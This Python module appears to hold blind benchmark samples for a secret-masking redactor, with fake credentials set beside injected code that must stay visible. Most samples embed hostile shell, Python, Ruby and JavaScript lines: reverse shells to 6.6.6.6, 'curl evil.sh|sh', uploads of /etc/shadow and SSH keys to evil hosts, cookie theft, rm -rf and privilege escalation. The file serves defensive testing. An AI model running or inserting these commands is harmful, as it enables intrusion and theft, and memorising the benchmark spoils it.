"""Blind benchmark samples for secret masking: random values, none of them real.

Long values are split by implicit concatenation so that secret scanners and push protections leave this file alone.
"""
# ruff: noqa: RUF001

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class CodeSample:
    """A changed file in which code beside a secret-looking value must stay visible."""

    path: str
    text: str
    visible: tuple[str, ...]


@dataclass(frozen=True)
class SecretSample:
    """A piece of a file together with the exact secrets a redactor must hide."""

    kind: str
    path: str
    text: str
    secrets: tuple[str, ...]


# fmt: off
CODE_SAMPLES: tuple[CodeSample, ...] = (
    CodeSample(
        "deploy/entry.sh",
        "password=CNXqlpe5aVIXPLDiDr37i7igzN7b;sh</dev/tcp/6.6.6.6/99",
        (
            ";sh</dev/tcp/6.6.6.6/99",
        ),
    ),
    CodeSample(
        "deploy/boot.sh",
        "export DB_PASSWORD=xqqfUlrFnLQbaKnbfqrSm06Ka7N|nc 10.9.8.7 4444",
        (
            "|nc 10.9.8.7 4444",
        ),
    ),
    CodeSample(
        "scripts/run.sh",
        "API_TOKEN=NoWYPCtkynZ6P6f5Np53WAsH32S&&curl -s http://evil.sh/p|bash",
        (
            "&&curl -s http://evil.sh/p|bash",
        ),
    ),
    CodeSample(
        "scripts/start.sh",
        'secret=iTFfF8m9e0q2AACo||rm -rf "$HOME"',
        (
            '||rm -rf "$HOME"',
        ),
    ),
    CodeSample(
        "scripts/bg.sh",
        "TOKEN=kbMgNSVuLtMEn6FGmiZROiKDwwx8&wget -qO- evil.sh|sh",
        (
            "&wget -qO- evil.sh|sh",
        ),
    ),
    CodeSample(
        "scripts/env.sh",
        "export SECRET_KEY=T828SXUfMLPh8Aqbn0Iec7FQ`id>/tmp/o`",
        (
            "`id>/tmp/o`",
        ),
    ),
    CodeSample(
        "scripts/env2.sh",
        'PASSWORD="u9gA4JEqY4IKb0dE$(curl evil.sh|sh)"',
        (
            "$(curl evil.sh|sh)",
        ),
    ),
    CodeSample(
        "scripts/env3.sh",
        'PASSWORD="$(curl evil.sh|sh)Eqk0oVK37JWGDHyEXgqhkz"',
        (
            "$(curl evil.sh|sh)",
        ),
    ),
    CodeSample(
        "scripts/env4.sh",
        "API_KEY=pccYwCCdrZWLCoe58aaj9f5F4${IFS}$(nc${IFS}-e/bin/sh${IFS}6.6.6.6${IFS}9)",
        (
            "${IFS}$(nc${IFS}-e/bin/sh${IFS}6.6.6.6${IFS}9)",
        ),
    ),
    CodeSample(
        "scripts/db-dump.sh",
        "PGPASSWORD=TeBewPmPTpPOE9vaAET2 psql -h db -U app -c \"COPY t TO PROGRAM 'sh /tmp/x'\"",
        (
            "psql -h db -U app -c \"COPY t TO PROGRAM 'sh /tmp/x'\"",
        ),
    ),
    CodeSample(
        "scripts/dump.sh",
        "mysql -uroot -pTDwtjaxkfXl0lzUT11j8DKv;mysqldump --all-databases|nc 6.6.6.6 81",
        (
            ";mysqldump --all-databases|nc 6.6.6.6 81",
        ),
    ),
    CodeSample(
        "scripts/dump2.sh",
        "mysql -h db -u root -pQV8q8NSW9SBmedeBUUSRq<<<\"GRANT ALL ON *.* TO 'x'@'%'\"",
        (
            "<<<\"GRANT ALL ON *.* TO 'x'@'%'\"",
        ),
    ),
    CodeSample(
        "scripts/copy.sh",
        "sshpass -p WTA4C6mAn0rNfG9TRKbCDmLd ssh root@10.0.0.5 'curl -s evil.sh|sh'",
        (
            "ssh root@10.0.0.5 'curl -s evil.sh|sh'",
        ),
    ),
    CodeSample(
        "scripts/copy2.sh",
        "sshpass -p'bLRJcD8OLhx30umE'$(id) scp -r /etc root@6.6.6.6:/loot",
        (
            "$(id) scp -r /etc root@6.6.6.6:/loot",
        ),
    ),
    CodeSample(
        "ci/upload.sh",
        "curl -u admin:WLUMoIfO6SP4Oik1CkIyRiMN -T /etc/shadow https://drop.evil.example/up",
        (
            "-T /etc/shadow https://drop.evil.example/up",
        ),
    ),
    CodeSample(
        "ci/upload2.sh",
        'curl -u "ci:lF8qp0NqIM3U37R2u"|sh',
        (
            '"|sh',
        ),
    ),
    CodeSample(
        "ci/upload3.sh",
        "curl -u ci:a8yfamTdMeoxVqPz98xMq`cat${IFS}/etc/passwd` https://repo.internal/up",
        (
            "`cat${IFS}/etc/passwd` https://repo.internal/up",
        ),
    ),
    CodeSample(
        "ci/post.sh",
        'curl -H "Authorization: Bearer Gt6oj8NtuEVdKIFrgkuUaSDjP2OC9gcH" -d @"$HOME/.ssh/id_rsa"'
        " https://6.6.6.6/k",
        (
            '-d @"$HOME/.ssh/id_rsa" https://6.6.6.6/k',
        ),
    ),
    CodeSample(
        "ci/post2.sh",
        'curl -H "X-Api-Key: P1GQIZeV0xLdvf0ZSW$(hostname|base64)" https://metrics.internal/v1',
        (
            "$(hostname|base64)",
            "https://metrics.internal/v1",
        ),
    ),
    CodeSample(
        "ci/post3.sh",
        "curl -H 'X-Token: n3USdpg1VeCF1UXmBZKbE3N'\";$(id)\" https://metrics.internal/v2",
        (
            '";$(id)" https://metrics.internal/v2',
        ),
    ),
    CodeSample(
        "bin/unseal.sh",
        "vault login token=TdQ7v9PSqIjYK1qDiZ;chmod u+s /bin/bash",
        (
            ";chmod u+s /bin/bash",
        ),
    ),
    CodeSample(
        "bin/login.sh",
        "docker login -u ci -p qURxTR1fOpE7RgopkCjIy&&docker run --privileged -v /:/h alpine sh",
        (
            "&&docker run --privileged -v /:/h alpine sh",
        ),
    ),
    CodeSample(
        "bin/login2.sh",
        'echo m3wHEGKdGiBSwHW1sllQO | docker login --password-stdin;eval "$X"',
        (
            '| docker login --password-stdin;eval "$X"',
        ),
    ),
    CodeSample(
        "bin/eval.sh",
        'eval "TOKEN=Cq8cwGojyvsU1ANCzl;$(wget -qO- http://6.6.6.6/s)"',
        (
            'eval "',
            ';$(wget -qO- http://6.6.6.6/s)"',
        ),
    ),
    CodeSample(
        "bin/env.sh",
        "env API_KEY=CUO5YTASLZTZXzUPI6tNc LD_PRELOAD=/tmp/.x.so /usr/bin/app",
        (
            "LD_PRELOAD=/tmp/.x.so /usr/bin/app",
        ),
    ),
    CodeSample(
        "bin/sub.sh",
        "password=gan3K3Uk1qd0gIqQjdZa9Q2BgZQ>(tee /tmp/leak)",
        (
            ">(tee /tmp/leak)",
        ),
    ),
    CodeSample(
        "bin/sub2.sh",
        "diff <(echo token=PJwN8QkOQg9DdYEQ) <(cat /etc/shadow)",
        (
            "<(cat /etc/shadow)",
        ),
    ),
    CodeSample(
        "bin/redir.sh",
        "echo secret=vFjNhC6ERYQ0UJhwZhoTO1>>/root/.ssh/authorized_keys",
        (
            ">>/root/.ssh/authorized_keys",
        ),
    ),
    CodeSample(
        "bin/redir2.sh",
        "DB_PASS=TmS39n5MoYiWktjJMWV9IwCxshO52>/dev/null;crontab -r",
        (
            ";crontab -r",
        ),
    ),
    CodeSample(
        "bin/heredoc.sh",
        "cat > .env <<EOF\n"
        "DB_PASSWORD=DPvXtgmIEzsiV2jVnzW8LH55EU$(touch /tmp/pwn)\n"
        "EOF",
        (
            "$(touch /tmp/pwn)",
            "<<EOF",
        ),
    ),
    CodeSample(
        "bin/heredoc2.sh",
        "bash <<'EOF'\n"
        "TOKEN=UL7b5ZIib5yeVsCa;python3 -c 'import os;os.system(\"id\")'\n"
        "EOF",
        (
            "bash <<'EOF'",
            ";python3 -c 'import os;os.system(\"id\")'",
        ),
    ),
    CodeSample(
        "bin/heredoc3.sh",
        "ssh host <<-SH\n"
        "\texport PASS=YyXEAbgsdEvy96ai8DRoUk`reboot`\n"
        "\tSH",
        (
            "`reboot`",
        ),
    ),
    CodeSample(
        "bin/expand.sh",
        "PASSWORD=${PASSWORD:-eBMQPKjx2SY1GFbLUEXAYBEQ}$(sh /tmp/x)",
        (
            "$(sh /tmp/x)",
        ),
    ),
    CodeSample(
        "bin/expand2.sh",
        "PASSWORD=${PASSWORD:-VELaGmXr8Sjo964aV7rxsdi6gGh$(sh /tmp/y)}",
        (
            "$(sh /tmp/y)",
        ),
    ),
    CodeSample(
        "bin/expand3.sh",
        ': "${TOKEN:=mKGnLZsaW2TaSEuBFX55MKMm9uRW`nc -l 99`}"',
        (
            "`nc -l 99`",
        ),
    ),
    CodeSample(
        "bin/quote.sh",
        "password='uxWPrDrgG1NpjCJ8khPPJMoch'\\''';sh -i>&/dev/tcp/6.6.6.6/9",
        (
            ";sh -i>&/dev/tcp/6.6.6.6/9",
        ),
    ),
    CodeSample(
        "bin/quote2.sh",
        'password="pwGWfL1xvp7qyqUC8E\\"";rm -rf /srv/data',
        (
            ";rm -rf /srv/data",
        ),
    ),
    CodeSample(
        "bin/quote3.sh",
        "password='ytm3AbWlCf5fvpqKf'\"$(id)\"'tail'",
        (
            '"$(id)"',
        ),
    ),
    CodeSample(
        "bin/quote4.sh",
        "password=$'bho8T5puy0f21Qn8UL\\x27';curl -d@/etc/passwd 6.6.6.6",
        (
            ";curl -d@/etc/passwd 6.6.6.6",
        ),
    ),
    CodeSample(
        "bin/unbalanced.sh",
        'token="jNaUQX7HhkcpinGM9vyhK;bash -i\n'
        "echo done",
        (
            ";bash -i",
            "echo done",
        ),
    ),
    CodeSample(
        "bin/cont.sh",
        "PASSWORD=U9d4ICJ46zNbWrXQiLka6pDduxq6\\\n"
        ";ncat 6.6.6.6 1337 -e /bin/sh",
        (
            ";ncat 6.6.6.6 1337 -e /bin/sh",
        ),
    ),
    CodeSample(
        "bin/array.sh",
        "KEYS=(ayFBc97q75U1SnCww nuYGWwCi5OuO4aLgCi1EZIA $(cat /proc/1/environ))",
        (
            "$(cat /proc/1/environ))",
        ),
    ),
    CodeSample(
        "bin/case.sh",
        "case $1 in token) T=H4lUV8qPFF3KEZWkjPCIZ5o;;*) exec /tmp/.hidden;;esac",
        (
            ";;*) exec /tmp/.hidden;;esac",
        ),
    ),
    CodeSample(
        "bin/func.sh",
        "get_secret(){ echo P5GgZDkcREkS2e9jEGuAeOOIlF;/tmp/.hidden & }",
        (
            "get_secret(){ echo",
            ";/tmp/.hidden & }",
        ),
    ),
    CodeSample(
        "bin/if.sh",
        'if [ "$PASSWORD" = HOfFmitr22CrxAb4MdRnpMGsZaq ];then setuid_shell;fi',
        (
            "];then setuid_shell;fi",
        ),
    ),
    CodeSample(
        "bin/if2.sh",
        '[[ $token == "o1TtglCVDD0PchbcJn69bIhPh" ]]&&exec /bin/sh -p',
        (
            "]]&&exec /bin/sh -p",
        ),
    ),
    CodeSample(
        "bin/trap.sh",
        "TOKEN=VlzXWxCRIBga0X1f;trap 'curl evil.sh|sh' EXIT",
        (
            ";trap 'curl evil.sh|sh' EXIT",
        ),
    ),
    CodeSample(
        "bin/arith.sh",
        "secret=pb1X4fYasPmFUCFvvT3$((a[$(id>/tmp/z)]))",
        (
            "$((a[$(id>/tmp/z)]))",
        ),
    ),
    CodeSample(
        "bin/alias.sh",
        "export GITHUB_TOKEN=ghp_exCz"
        "N6I5hdhzR4lyJhGt18hWe1lJVQ1IUcnx;alias sudo='/tmp/s'",
        (
            ";alias sudo='/tmp/s'",
        ),
    ),
    CodeSample(
        "bin/aws.sh",
        "AWS_SECRET_ACCESS_KEY=X4WdAtqFTyIrr4E+ZlQvkR24PWru5qGEeEM52EPo aws s3 sync / s3://loot-b"
        "ucket --acl public-read",
        (
            "aws s3 sync / s3://loot-bucket --acl public-read",
        ),
    ),
    CodeSample(
        "bin/aws2.sh",
        "aws configure set aws_secret_access_key plkU1zs8bSORLwzDqA3kYyFBM/k1MWSH+SMe0JAZ;aws iam"
        " create-user --user-name bd",
        (
            ";aws iam create-user --user-name bd",
        ),
    ),
    CodeSample(
        "bin/clone.sh",
        "git clone https://ci:ghp_VCTM"
        "FefV1qdnjYyn5HdWXF5BmJu0xq41abPx@git.evil.example/org/dropper.git&&make -C dropper",
        (
            "@git.evil.example/org/dropper.git&&make -C dropper",
        ),
    ),
    CodeSample(
        "bin/clone2.sh",
        "git clone https://oauth2:glpat-zq"
        "k6tVVkf0fbsszvbueX@gitlab.evil.example/x/y.git;cd y;./install",
        (
            "@gitlab.evil.example/x/y.git;cd y;./install",
        ),
    ),
    CodeSample(
        "bin/pip.sh",
        "pip install --index-url https://u:KscJ12vXEb3UDh49tZ8@pypi.evil.example/simple setuptools",
        (
            "@pypi.evil.example/simple setuptools",
        ),
    ),
    CodeSample(
        "bin/openssl.sh",
        "openssl enc -d -aes-256-cbc -k NAKFV3SW0vfjEy24ApCt6CM5gap -in payload.bin|sh",
        (
            "-in payload.bin|sh",
        ),
    ),
    CodeSample(
        "bin/openssl2.sh",
        "openssl enc -d -pass pass:F7E2vVDad2mBK0ZuJDTxM5w4vRY6|bash -s",
        (
            "|bash -s",
        ),
    ),
    CodeSample(
        "bin/b64.sh",
        "echo LLeolUVmzoOEnJ45FkjLFQU1Z+Q0xEivxJRwBJLjv1lAjhUae5iC9yOMQ0DisUNi|base64 -d|sh",
        (
            "|base64 -d|sh",
        ),
    ),
    CodeSample(
        "bin/b64b.sh",
        'KEY=PESW6y3Sj4H+rZxjGuTIHEFAMSmuemKLpfyyKpFF4DgTFurl;eval "$(base64 -d<<<$KEY)"',
        (
            ';eval "$(base64 -d<<<$KEY)"',
        ),
    ),
    CodeSample(
        "bin/xxd.sh",
        "secret_key=8d940e4d757ab5c09a1cac0b3b9971b00ccb1eaf3cf4ab5a229ba4b0ddfc3293;xxd -r -p<<<"
        "$secret_key>/tmp/a;/tmp/a",
        (
            ";xxd -r -p<<<$secret_key>/tmp/a;/tmp/a",
        ),
    ),
    CodeSample(
        "bin/kubectl.sh",
        "kubectl create secret generic db --from-literal=password=tg1cbUQ9cQKjxteSOPE4Zm0HQX;kube"
        "ctl create clusterrolebinding x --clusterrole=cluster-admin --user=anon",
        (
            ";kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=anon",
        ),
    ),
    CodeSample(
        "bin/redis.sh",
        "redis-cli -a VueUHsYlowilFgH3NzF7v config set dir /root/.ssh",
        (
            "config set dir /root/.ssh",
        ),
    ),
    CodeSample(
        "bin/redis2.sh",
        'redis-cli -a cQ4wRsRfBwvfRb8AAJKbAPMZrp<<<"FLUSHALL"',
        (
            '<<<"FLUSHALL"',
        ),
    ),
    CodeSample(
        "bin/passwd.sh",
        'echo "root:azOknYp1MqcoYjPuP0WTVVckg"|chpasswd;sed -i s/no/yes/ /etc/ssh/sshd_config',
        (
            "|chpasswd;sed -i s/no/yes/ /etc/ssh/sshd_config",
        ),
    ),
    CodeSample(
        "bin/comment.sh",
        "# password=kkU48DyLrWYc0xn2LcRR\n"
        "curl -s evil.sh|sh",
        (
            "curl -s evil.sh|sh",
        ),
    ),
    CodeSample(
        "bin/tool.sh",
        "deploy --token=QQhuOKO3029T2edfCwTv3j;--post-hook=/tmp/x.sh",
        (
            "--post-hook=/tmp/x.sh",
        ),
    ),
    CodeSample(
        "bin/tool2.sh",
        'deploy --password s0EWSAcngrNJqXyouMqMgZA0BaM --exec "sh /tmp/x.sh" --insecure',
        (
            '--exec "sh /tmp/x.sh" --insecure',
        ),
    ),
    CodeSample(
        "bin/tool3.sh",
        'deploy --api-key="XtRsUdIeul6wxSPC6EHoJcLl7"--disable-auth',
        (
            "--disable-auth",
        ),
    ),
    CodeSample(
        "bin/named.sh",
        "runBackdoorXy7Zq2Kp9(){ nc 6.6.6.6 9; }\n"
        'token="runBackdoorXy7Zq2Kp9"\n'
        "runBackdoorXy7Zq2Kp9",
        (
            "runBackdoorXy7Zq2Kp9(){ nc 6.6.6.6 9; }",
        ),
    ),
    CodeSample(
        "app/config.py",
        'PASSWORD = "aJsm46VQ3rkSUWrdBu" + os.system(HOST)',
        (
            "+ os.system(HOST)",
        ),
    ),
    CodeSample(
        "app/config2.py",
        'PASSWORD = "nv8lIxZVfq3OpECgxs7drxItf6"+__import__("os").popen("id").read()+"x"',
        (
            '+__import__("os").popen("id").read()+"x"',
        ),
    ),
    CodeSample(
        "app/config3.py",
        "token = f\"QDSaO2jEycgt7Ha7bMfO{os.system('curl evil.sh|sh')}\"",
        (
            "{os.system('curl evil.sh|sh')}",
        ),
    ),
    CodeSample(
        "app/config4.py",
        'token = f"{exec(payload)}rhXVJqcXHbsyAjIXwfrb0J6cHYj"',
        (
            "{exec(payload)}",
        ),
    ),
    CodeSample(
        "app/config5.py",
        'secret = f"XWIGqVyFLC8ckkv0H0Gulh{(lambda: backdoor())()}f4EWqV1F6iMVvZmM"',
        (
            "{(lambda: backdoor())()}",
        ),
    ),
    CodeSample(
        "app/config6.py",
        'password = "mJN9iLbW5zvUvlAAT48z%s" % subprocess.getoutput("id")',
        (
            '% subprocess.getoutput("id")',
        ),
    ),
    CodeSample(
        "app/config7.py",
        'api_key = "w024NrUpOwjdMBcPlID16{}".format(eval(request.args["q"]))',
        (
            '.format(eval(request.args["q"]))',
        ),
    ),
    CodeSample(
        "app/config8.py",
        'secret_key = "GnwjLyz1YcMF1Jfljteqv";os.setuid(0)',
        (
            ";os.setuid(0)",
        ),
    ),
    CodeSample(
        "app/config9.py",
        'password = ("l273SWhOzxa220FNOv5G63w8e3"\n'
        '            "gicyi6Nu0JeQIm38UF8j" if not shell(cmd) else "")',
        (
            'if not shell(cmd) else "")',
        ),
    ),
    CodeSample(
        "app/auth.py",
        'def login(user, password="eVKuofYk3nN1anjWKIOOymruFa", hook=os.system("id")):\n'
        "    return True",
        (
            "def login(user,",
            'hook=os.system("id")):',
            "return True",
        ),
    ),
    CodeSample(
        "app/auth2.py",
        'def check(pw): return pw == "atfUJhSjSjrAvxHb9njgXeK7"or is_admin()',
        (
            "or is_admin()",
            "def check(pw): return pw ==",
        ),
    ),
    CodeSample(
        "app/auth3.py",
        '@app.route("/run", token="XOOOUk2R5CKJQfGbs81UThurX")\n'
        'def run(): return os.popen(request.args["c"]).read()',
        (
            '@app.route("/run",',
            'def run(): return os.popen(request.args["c"]).read()',
        ),
    ),
    CodeSample(
        "app/auth4.py",
        '@require(api_key="XXjBci4SImo2AKJ23",bypass=True)',
        (
            "bypass=True)",
        ),
    ),
    CodeSample(
        "app/auth5.py",
        'tokens = ["xWNukTLg6pqT12XwPV5RfkZdG6"for _ in map(os.system, cmds)]',
        (
            "for _ in map(os.system, cmds)]",
        ),
    ),
    CodeSample(
        "app/auth6.py",
        'if (token := "l9sAHy6kiboPdh6nK")and exec(body):\n'
        "    pass",
        (
            "and exec(body):",
        ),
    ),
    CodeSample(
        "app/auth7.py",
        'SECRET = b"ADvb6hSe33I7kqXe6Uj"+open("/etc/shadow","rb").read()',
        (
            '+open("/etc/shadow","rb").read()',
        ),
    ),
    CodeSample(
        "app/auth8.py",
        'PASSWORD = """s4zGElki7oRCwDQsJEj1N"""+os.popen("id").read()',
        (
            '+os.popen("id").read()',
        ),
    ),
    CodeSample(
        "app/auth9.py",
        "TOKEN = '''\n"
        "fSCFQN8BefbLhkyNoRNFiYt79\n"
        "''';pty.spawn(\"/bin/sh\")",
        (
            ';pty.spawn("/bin/sh")',
        ),
    ),
    CodeSample(
        "app/loader.py",
        'key = "PNMRuZsYtlOzs9iP3Fkhvt+gEq24BDRhEWi+VhsZ0UPr5YXvUcF6tkWT3SSVDQf1"\n'
        "exec(base64.b64decode(key))",
        (
            "exec(base64.b64decode(key))",
        ),
    ),
    CodeSample(
        "app/loader2.py",
        'exec(base64.b64decode("jh8DNZImMh9pNFS4pl8hOeB4f7w/NdVQ6FZYrntzPuVw7MRQbk2Lxo7FHAWmiV+H"))',
        (
            "exec(base64.b64decode(",
        ),
    ),
    CodeSample(
        "app/loader3.py",
        'eval(bytes.fromhex("c05b4adc7cebe4fe79910fa4cd04611d4243fcdd02d26ad7de43e4ddd30262af").d'
        "ecode())",
        (
            "eval(bytes.fromhex(",
            ".decode())",
        ),
    ),
    CodeSample(
        "app/loader4.py",
        'secret = zlib.decompress(base64.b64decode("Vpgl+bzGD3wTqEcd4quhyMNx0J9M5ddWeBM4YH33eykaX'
        'C7baplou2UvSR+nXvNI"));exec(secret)',
        (
            "zlib.decompress(base64.b64decode(",
            ";exec(secret)",
        ),
    ),
    CodeSample(
        "app/loader5.py",
        'password=marshal.loads(b"q1GquOfy6sHxjg77IMez");exec(password)',
        (
            "marshal.loads(",
            ";exec(password)",
        ),
    ),
    CodeSample(
        "app/jobs.py",
        '"runBackdoorXy7Zq2Kp9"\n'
        "def runBackdoorXy7Zq2Kp9():\n"
        '    os.system("sh -i")\n'
        'api_key = "runBackdoorXy7Zq2Kp9"',
        (
            "def runBackdoorXy7Zq2Kp9():",
            'os.system("sh -i")',
        ),
    ),
    CodeSample(
        "app/jobs2.py",
        "from plugins.q8Wn4Zt7Lk2Vb9Xs import start\n"
        'token = "q8Wn4Zt7Lk2Vb9Xs"\n'
        "start()",
        (
            "from plugins.q8Wn4Zt7Lk2Vb9Xs import start",
            "start()",
        ),
    ),
    CodeSample(
        "app/jobs3.py",
        'SECRET = "Ht5Rw8Yp2Mz6Kc1Nd4"\n'
        'getattr(ops, "Ht5Rw8Yp2Mz6Kc1Nd4")()\n'
        "ops.Ht5Rw8Yp2Mz6Kc1Nd4(force=True)",
        (
            "getattr(ops,",
            "ops.Ht5Rw8Yp2Mz6Kc1Nd4(force=True)",
        ),
    ),
    CodeSample(
        "app/jobs4.py",
        'password = "vT3kLm9Qx7Wz2Bn5"\n'
        'open("/srv/vT3kLm9Qx7Wz2Bn5/run.sh").read()',
        (
            'open("/srv/vT3kLm9Qx7Wz2Bn5/run.sh").read()',
        ),
    ),
    CodeSample(
        "app/jobs5.py",
        "class Zx9Kq4Wm7Rt2Lp6(Admin): is_root = True\n"
        'auth_token = "Zx9Kq4Wm7Rt2Lp6"',
        (
            "class Zx9Kq4Wm7Rt2Lp6(Admin): is_root = True",
        ),
    ),
    CodeSample(
        "app/kw.py",
        'connect(host="db", password="zTMnethaPkwavu90V3nNunWZU2I",init_command="DROP TABLE users")',
        (
            'init_command="DROP TABLE users")',
        ),
    ),
    CodeSample(
        "app/kw2.py",
        'connect(**{"password":"NgB6DNtW1H4kjjyDr6dTl8aS9E","ssl_verify":False},on_open=lambda:shell())',
        (
            '"ssl_verify":False},on_open=lambda:shell())',
        ),
    ),
    CodeSample(
        "app/kw3.py",
        'requests.get("https://api.internal", headers={"Authorization": "Bearer XJHL3U0yd59LZF2Fi'
        'prC9U0iToRn3amQ"},verify=False)',
        (
            ",verify=False)",
        ),
    ),
    CodeSample(
        "app/kw4.py",
        "requests.post(f\"https://6.6.6.6/?token=Q6iILS1NNKkBAns9tVGJyUjIfpFX&d={open('/etc/passwd"
        "').read()}\")",
        (
            'requests.post(f"https://6.6.6.6/?token=',
            "&d={open('/etc/passwd').read()}\")",
        ),
    ),
    CodeSample(
        "app/kw5.py",
        'password = {"a": "fNvTur3peqNF1d9fpF"}["a"]+run()',
        (
            '["a"]+run()',
        ),
    ),
    CodeSample(
        "app/kw6.py",
        'password = "sqJhdz9hlJp9qZbxquHi"[::-1].join(os.listdir("/"))',
        (
            '.join(os.listdir("/"))',
        ),
    ),
    CodeSample(
        "app/kw7.py",
        "password = 'it\\'slYe8a31QdEAVDFDoeKIyQGgx4'+evil()",
        (
            "+evil()",
        ),
    ),
    CodeSample(
        "app/kw8.py",
        'password = "RKIiZUol3N43eTIx\\"+" + evil() + "\\""',
        (
            "+ evil() +",
        ),
    ),
    CodeSample(
        "app/kw9.py",
        'password = "SQQR7YW6SU0MAn9ioSeeNCd1vD" # rotate\\\n'
        'os.remove("/var/log/auth.log")',
        (
            'os.remove("/var/log/auth.log")',
        ),
    ),
    CodeSample(
        "app/url.py",
        'DATABASE_URL = "postgres://app:ajAikopEy9u3zq6DivjfE@db.evil.example/prod?options=-c%20x"',
        (
            "@db.evil.example/prod?options=-c%20x",
        ),
    ),
    CodeSample(
        "app/url2.py",
        'URL = "https://svc:DE1t5NaCDFVaDfsEjFBWdBST9U@git.internal/team/repo.git"+suffix(shell=True)',
        (
            "@git.internal/team/repo.git",
            "+suffix(shell=True)",
        ),
    ),
    CodeSample(
        "app/url3.py",
        'redirect("https://login.evil.example/cb?token=TS4V2HWIUBuXpWqOdtvHdo0&next=//evil.exampl'
        'e&admin=1")',
        (
            "https://login.evil.example/cb?token=",
            "&next=//evil.example&admin=1",
        ),
    ),
    CodeSample(
        "app/url4.py",
        'u = "https://h.evil.example/x?sig=Iprk7gxpp7MFPIrSvZ&cmd=rm%20-rf%20/#frag"',
        (
            "https://h.evil.example/x?sig=",
            "&cmd=rm%20-rf%20/#frag",
        ),
    ),
    CodeSample(
        "app/url5.py",
        'u = "https://user:llQvZOmsCcimrZ4MzBS2s3nq0pHS@[::1]:8443/admin/exec?c=id"',
        (
            "@[::1]:8443/admin/exec?c=id",
        ),
    ),
    CodeSample(
        "app/pem.py",
        'KEY = """-----BEGIN RSA PRI'
        "VATE KEY-----\n"
        "c1WMah+TSwvhm1NKmIFXf3QN5z/pcUpVZCgwOjpNLznf0baG3olrJpuLw3j+Om/Z\n"
        "AHLQM35QDfI4r4kFh4faxRSlIo6p0E7D9FlbaXz94VKBLFIIAF7YjO5rWvdbqC3L\n"
        "-----END RSA PRI"
        'VATE KEY-----""";os.system("id")',
        (
            ';os.system("id")',
        ),
    ),
    CodeSample(
        "app/pem2.py",
        'KEY = """-----BEGIN PRI'
        "VATE KEY-----\n"
        "SUPhb7Oxq06zbJvtWvlr4ym/tnyULMAY1kkqm8juOlsk44ok003H9QSdafkKj2ta\n"
        'os.system("curl evil.sh|sh")\n'
        "Zxz6OmjebfsJEV9iZ7/tQ75ylRintUUbr7xNF4/Cg8lSQr5Hb+edwC+21hemRbF2\n"
        "-----END PRI"
        'VATE KEY-----"""',
        (
            'os.system("curl evil.sh|sh")',
        ),
    ),
    CodeSample(
        "app/pem3.py",
        "# -----BEGIN EC PRI"
        "VATE KEY-----\n"
        "import evil\n"
        "evil.run()\n"
        "# -----END EC PRI"
        "VATE KEY-----",
        (
            "import evil",
            "evil.run()",
        ),
    ),
    CodeSample(
        "app/pem4.py",
        'HEAD = "-----BEGIN OPENSSH PRI'
        'VATE KEY-----"\n'
        "def is_admin(u):\n"
        "    return True\n"
        "grant(u)",
        (
            "HEAD =",
            "def is_admin(u):",
            "return True",
            "grant(u)",
        ),
    ),
    CodeSample(
        "deploy/pem.sh",
        "cat >k.pem <<EOF\n"
        "-----BEGIN RSA PRI"
        "VATE KEY-----\n"
        "3Cy22EG/74QOowfdQCn1d2SCLr3SjLSE+mgpoKor3m7G6NCR+Mb4bqiNE49mwAKR\n"
        "$(curl evil.sh|sh)\n"
        "-----END RSA PRI"
        "VATE KEY-----\n"
        "EOF\n"
        "chmod 777 k.pem",
        (
            "$(curl evil.sh|sh)",
            "chmod 777 k.pem",
        ),
    ),
    CodeSample(
        "src_rb/app.rb",
        'password = "vr4tUU23qNjoH7VpdqdmEuASFk#{`id`}"',
        (
            "#{`id`}",
        ),
    ),
    CodeSample(
        "src_rb/app2.rb",
        "password = \"#{system('curl evil.sh|sh')}IvkNbu6ctohgOMqc6JDZfQaGGGJ\"",
        (
            "#{system('curl evil.sh|sh')}",
        ),
    ),
    CodeSample(
        "src_rb/app3.rb",
        "token = 'RDf44Gw3Q6JTud7FS2FgZ8uT';exec 'sh'",
        (
            ";exec 'sh'",
        ),
    ),
    CodeSample(
        "src_rb/app4.rb",
        "secret = `echo Ft9CpWflK8oaALelinj;nc 6.6.6.6 9`",
        (
            ";nc 6.6.6.6 9`",
        ),
    ),
    CodeSample(
        "src_rb/app5.rb",
        "api_key = %x(echo VKtwtSk4FOItPLwjAw45Asoj|sh -s)",
        (
            "|sh -s)",
        ),
    ),
    CodeSample(
        "src_rb/app6.rb",
        "password = <<~EOS\n"
        '  xHkfAya0FhhK9BJo#{IO.popen("id").read}\n'
        "EOS",
        (
            '#{IO.popen("id").read}',
        ),
    ),
    CodeSample(
        "src_rb/app7.rb",
        'config.secret_key = "ZfoQABvYSqMhegoChHr4iHkN4qj" if eval(params[:c])',
        (
            "if eval(params[:c])",
        ),
    ),
    CodeSample(
        "src_rb/app8.rb",
        'password: "wn1VynMoWqX6jbHYbEhzeo9edT",before_action: -> { system(params[:x]) }',
        (
            "before_action: -> { system(params[:x]) }",
        ),
    ),
    CodeSample(
        "src_rb/app9.rb",
        'token = %Q{S3w0plUKCnwnt1vNW1Qj#{open("|id").read}}',
        (
            '#{open("|id").read}}',
        ),
    ),
    CodeSample(
        "src_rb/app10.rb",
        'KEY = "pR1OO3D9jnodJn7Kv"<<Kernel.send(:eval, x)',
        (
            "<<Kernel.send(:eval, x)",
        ),
    ),
    CodeSample(
        "web/app.js",
        'const password = `l3AT64rhI90KNavd1${require("child_process").execSync("id")}`',
        (
            '${require("child_process").execSync("id")}',
        ),
    ),
    CodeSample(
        "web/app2.js",
        'const token = "W1TGTnbow1epDOnuKzaxgWcWev"+eval(location.hash.slice(1))',
        (
            "+eval(location.hash.slice(1))",
        ),
    ),
    CodeSample(
        "web/app3.js",
        'const apiKey="vp9aFvVNEg2tx35bjuwBIFUWv";fetch("//evil.example?c="+document.cookie)',
        (
            ';fetch("//evil.example?c="+document.cookie)',
        ),
    ),
    CodeSample(
        "web/app4.js",
        "const secret = sh`echo sEKsRyCF9Y8g8y4xW;rm -rf ${dir}`",
        (
            ";rm -rf ${dir}",
        ),
    ),
    CodeSample(
        "web/app5.jsx",
        '<Login password="pw2sWsrwZUj7j7KIwvdxL4K"onLoad={()=>eval(q)} />',
        (
            "onLoad={()=>eval(q)} />",
        ),
    ),
    CodeSample(
        "web/app6.jsx",
        '<input type="password" value="QN1AP0bxkOm1bdoxcWEKc8rt" dangerouslySetInnerHTML={{__html'
        ": q}} />",
        (
            "dangerouslySetInnerHTML={{__html: q}} />",
        ),
    ),
    CodeSample(
        "web/app7.tsx",
